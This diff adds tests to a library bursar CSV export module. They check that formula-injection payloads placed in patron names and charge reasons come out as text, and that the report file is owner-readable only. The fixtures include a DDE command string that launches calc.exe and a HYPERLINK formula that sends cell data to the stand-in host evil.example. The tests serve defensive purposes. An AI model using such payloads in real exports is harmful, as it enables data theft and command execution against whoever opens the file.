@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import csv
+import os
+import stat
 from collections.abc import Callable
 from decimal import Decimal
 from pathlib import Path
@@ -148,3 +150,47 @@ def test_bad_file_names_and_roles_are_refused(
         bursar.export(demo_rt, actor_at("desk", "SE"), tmp_path / "r.csv")
     assert not (tmp_path / "r.csv").exists()
     assert all(v.reported_at is None for v in charges.list_charges(demo_rt, as_office(demo_rt)))
+
+
+CMD = "=cmd|'/Ccalc.exe'!A0"  # no space: the file splits "first last" at the first one
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"Smith")'
+
+
+def test_formula_names_titles_and_reasons_open_as_text_and_amounts_stay_numbers(
+    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
+) -> None:
+    with demo_rt.db.transaction() as s:
+        patron = s.scalar(select(Patron).where(Patron.patron_id == "T00890123"))
+        assert patron is not None
+        patron.first_name, patron.last_name = CMD, LINK
+        for charge in s.scalars(select(Charge)):
+            charge.reason = "@SUM(1+1)*cmd|' /C calc'!A0"
+    credit = add_charge(demo_rt, "-12.50", is_ill=True)
+    with demo_rt.db.transaction() as s:
+        row = s.get(Charge, credit)
+        assert row is not None
+        row.reason = "\t+1+1"
+    path = tmp_path / "bursar.csv"
+    bursar.export(demo_rt, actor_at("office", "WS-ILL"), path)
+    rows = read_rows(path)
+    fontaine = next(r for r in rows if r["patron_id"] == "T00890123")
+    assert (fontaine["last_name"], fontaine["first_name"]) == ("'" + LINK, "'" + CMD)
+    assert fontaine["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert fontaine["amount"] == "30.00"
+    refund = next(r for r in rows if int(r["charge_id"]) == credit)
+    assert refund["amount"] == "-12.50"  # our own number: the bursar imports it as one
+    assert refund["reason"] == "'\t+1+1"
+    text_cells = [c for r in rows for k, c in r.items() if k != "amount"]
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in text_cells)
+
+
+@pytest.mark.skipif(os.name != "posix", reason="Windows has no owner-only mode bits")
+def test_the_report_file_is_readable_by_its_owner_only(
+    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
+) -> None:
+    old = os.umask(0)  # a desk whose umask would let everyone read new files
+    try:
+        bursar.export(demo_rt, actor_at("office", "WS-ILL"), tmp_path / "bursar.csv")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "bursar.csv").stat().st_mode) == 0o600
